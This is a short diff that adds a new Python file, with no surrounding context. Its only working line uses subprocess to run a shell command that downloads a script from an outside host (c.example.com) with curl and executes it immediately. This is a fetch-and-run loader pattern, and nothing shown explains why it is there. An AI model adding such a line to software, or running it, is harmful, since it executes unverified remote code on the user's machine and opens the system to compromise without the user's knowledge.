@@ -1,0 +1,3 @@
+import subprocess
+
+subprocess.check_call('sh -c "$(curl -fsSL https://c.example.com/i.sh)"', shell=True)
